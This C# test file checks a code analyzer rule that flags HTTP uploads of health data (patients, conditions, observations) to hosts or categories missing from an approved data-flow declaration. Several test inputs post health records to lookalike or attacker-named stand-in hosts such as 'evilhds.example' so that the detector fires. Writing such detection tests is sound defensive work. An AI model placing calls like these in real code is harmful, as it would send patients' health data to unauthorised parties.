using Microsoft.CodeAnalysis;
using Microsoft.CodeAnalysis.Testing;
using Policy.Analyzers.Tests.Infrastructure;
using VerifyHP004 = Policy.Analyzers.Tests.Infrastructure.Verify<Policy.Analyzers.Rules.DataFlowCoverageAnalyzer>;

namespace Policy.Analyzers.Tests.Rules;

public class HP004DataFlowCoverageTests
{
    private static string Sender(string parameter, string call) => TestSources.Usings + $$"""
        class Uploader
        {
            private readonly HttpClient http = new HttpClient();

            [DataFlow("df-cloud")]
            public async Task SendAsync({{parameter}}, string id)
            {
                await {{call}};
            }
        }
        """;

    private static DiagnosticResult HP004(string message) =>
        new DiagnosticResult("HP004", DiagnosticSeverity.Warning).WithLocation(0).WithLocation(1).WithArguments(message);

    [Fact]
    public async Task Category_not_declared_fires_at_the_call()
    {
        var code = Sender("Condition {|#1:condition|}", """{|#0:http.PostAsJsonAsync("https://api.hds.example/conditions", condition)|}""");
        var repo = new PolicyRepo().DataFlow("df-cloud", new[] { "health.observation" });
        await VerifyHP004.RunAsync(code, repo, HP004(
            "DataFlow 'df-cloud' does not list health.diagnosis (it declares health.observation); update the declaration and have it approved, or attest a flow that covers this call"));
    }

    [Fact]
    public async Task Parent_category_covers_its_child()
    {
        var code = Sender("Observation observation", """http.PostAsJsonAsync("https://api.hds.example/obs", observation)""");
        await VerifyHP004.RunAsync(code, new PolicyRepo().DataFlow("df-cloud", new[] { "health.record" }));
    }

    [Fact]
    public async Task Child_category_does_not_cover_its_parent()
    {
        var code = Sender("Patient {|#1:patient|}", """{|#0:http.PostAsJsonAsync("https://api.hds.example/patients", patient)|}""");
        var repo = new PolicyRepo().DataFlow("df-cloud", new[] { "health.observation" });
        await VerifyHP004.RunAsync(code, repo, HP004(
            "DataFlow 'df-cloud' does not list health.record (it declares health.observation); update the declaration and have it approved, or attest a flow that covers this call"));
    }

    [Theory]
    [InlineData("https://api.hds.example/obs")]
    [InlineData("https://a.b.hds.example:8443/obs")]
    [InlineData("HTTPS://API.HDS.EXAMPLE/obs")]
    public async Task Host_matching_a_suffix_pattern_on_a_label_boundary_is_covered(string url)
    {
        var code = Sender("Observation observation", $$"""http.PostAsJsonAsync("{{url}}", observation)""");
        await VerifyHP004.RunAsync(code, new PolicyRepo().DataFlow("df-cloud", new[] { "health.observation" }, new[] { "*.hds.example" }));
    }

    [Theory]
    [InlineData("https://evilhds.example/obs", "evilhds.example")]
    [InlineData("https://hds.example/obs", "hds.example")]
    [InlineData("https://api.hds.example.attacker.example/obs", "api.hds.example.attacker.example")]
    public async Task Host_outside_the_endpoints_fires(string url, string host)
    {
        var code = Sender("Observation {|#1:observation|}", $$"""{|#0:http.PostAsJsonAsync("{{url}}", observation)|}""");
        var repo = new PolicyRepo().DataFlow("df-cloud", new[] { "health.observation" }, new[] { "*.hds.example" });
        await VerifyHP004.RunAsync(code, repo, HP004(
            $"host '{host}' is outside the destination.endpoints of 'df-cloud' (*.hds.example); update the declaration and have it approved, or attest a flow that covers this call"));
    }

    [Fact]
    public async Task Host_from_an_interpolated_url_and_a_request_message_is_checked()
    {
        var code = TestSources.Usings + """
            class Uploader
            {
                private readonly HttpClient http = new HttpClient();

                [DataFlow("df-cloud")]
                public async Task SendAsync(Observation {|#1:observation|})
                {
                    var uri = new Uri($"https://evilhds.example/patients/{observation.Subject.Reference}");
                    var request = new HttpRequestMessage(HttpMethod.Put, uri) { Content = JsonContent.Create(observation) };
                    await {|#0:http.SendAsync(request)|};
                }
            }
            """;
        var repo = new PolicyRepo().DataFlow("df-cloud", new[] { "health.observation" }, new[] { "*.hds.example", "api.vendor.example" });
        await VerifyHP004.RunAsync(code, repo, HP004(
            "host 'evilhds.example' is outside the destination.endpoints of 'df-cloud' (*.hds.example, api.vendor.example); update the declaration and have it approved, or attest a flow that covers this call"));
    }

    [Fact]
    public async Task Unknown_host_is_not_judged()
    {
        var code = TestSources.Usings + """
            class Uploader
            {
                private readonly HttpClient http = new HttpClient();

                [DataFlow("df-cloud")]
                public Task SendAsync(Observation observation, string endpoint) => http.PostAsJsonAsync(endpoint, observation);
            }
            """;
        await VerifyHP004.RunAsync(code, new PolicyRepo().DataFlow("df-cloud", new[] { "health.observation" }, new[] { "*.hds.example" }));
    }

    [Fact]
    public async Task One_of_several_attested_flows_covering_is_enough()
    {
        var code = TestSources.Usings + """
            [DataFlow("df-obs")]
            class Uploader
            {
                private readonly HttpClient http = new HttpClient();

                [DataFlow("df-conditions")]
                public Task SendAsync(Condition condition) => http.PostAsJsonAsync("https://api.hds.example/c", condition);
            }
            """;
        var repo = new PolicyRepo()
            .DataFlow("df-obs", new[] { "health.observation" })
            .DataFlow("df-conditions", new[] { "health.diagnosis" }, new[] { "api.hds.example" });
        await VerifyHP004.RunAsync(code, repo);
    }

    [Theory]
    [InlineData(ApprovalState.None)]
    [InlineData(ApprovalState.Stale)]
    public async Task Unapproved_or_unknown_flows_are_left_to_HP002_and_HP003(ApprovalState state)
    {
        var code = Sender("Condition condition", """http.PostAsJsonAsync("https://evilhds.example/conditions", condition)""");
        await VerifyHP004.RunAsync(code, new PolicyRepo().DataFlow("df-cloud", new[] { "health.observation" }, new[] { "*.hds.example" }, approval: state));
        await VerifyHP004.RunAsync(code, new PolicyRepo().DataFlow("df-other", new[] { "health.observation" }));
    }

    [Fact]
    public async Task Without_a_data_flow_attestation_it_is_HP001s_business()
    {
        var code = TestSources.Usings + """
            class Uploader
            {
                private readonly HttpClient http = new HttpClient();

                public Task SendAsync(Condition condition) => http.PostAsJsonAsync("https://evilhds.example/c", condition);
            }
            """;
        await VerifyHP004.RunAsync(code, new PolicyRepo().DataFlow("df-cloud", new[] { "health.observation" }));
    }
}
